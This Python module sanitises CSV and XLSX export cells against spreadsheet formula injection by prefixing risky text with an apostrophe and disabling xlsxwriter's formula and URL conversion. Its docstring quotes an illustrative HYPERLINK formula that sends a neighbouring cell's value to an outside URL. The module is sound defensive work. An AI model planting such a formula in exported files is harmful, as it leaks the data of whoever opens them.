"""Cells of the files people open in a spreadsheet (CSV and XLSX downloads): text never becomes a formula.

Excel, WPS, LibreOffice and Google Sheets evaluate a cell whose text begins with `=`, `+`, `-` or `@` (and,
in some of them, with a tab or a carriage return before one) as a formula. A group named
`=HYPERLINK("http://…?leak="&B5,"点击")` or an uploaded header would then run in the reader's spreadsheet. Every
export writes its text through `cell` (CSV) or `write_cell` (XLSX): such text gets a leading apostrophe, which
spreadsheets read as "this is text". Numbers stay numbers: a negative amount is a number, not a formula.
"""

from decimal import Decimal

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")


def cell(value):
    """`value` as a spreadsheet cell: numbers and None pass unchanged (the writers format them); anything else
    is text (a lazy translation too), and text that could start a formula gets a leading apostrophe."""
    if value is None or isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_LEADS) else text


def row(values) -> list:
    """Every value of a CSV row through `cell`, None as an empty cell."""
    return ["" if value is None else cell(value) for value in values]


def write_cell(sheet, row_index: int, col: int, value, fmt=None) -> None:
    """Write one XLSX cell with xlsxwriter: numbers as numbers, None as a blank, anything else as a string.

    Never `sheet.write`: it turns text starting with `=` into a formula and text starting with `http://` into
    a link.
    """
    if value is None:
        sheet.write_blank(row_index, col, None, fmt)
    elif isinstance(value, bool):
        sheet.write_boolean(row_index, col, value, fmt)
    elif isinstance(value, int | float | Decimal):
        sheet.write_number(row_index, col, float(value), fmt)
    else:
        sheet.write_string(row_index, col, cell(value), fmt)


# Options for xlsxwriter.Workbook: even a stray `write` then keeps text as text.
WORKBOOK_OPTIONS = {"in_memory": True, "strings_to_formulas": False, "strings_to_urls": False}
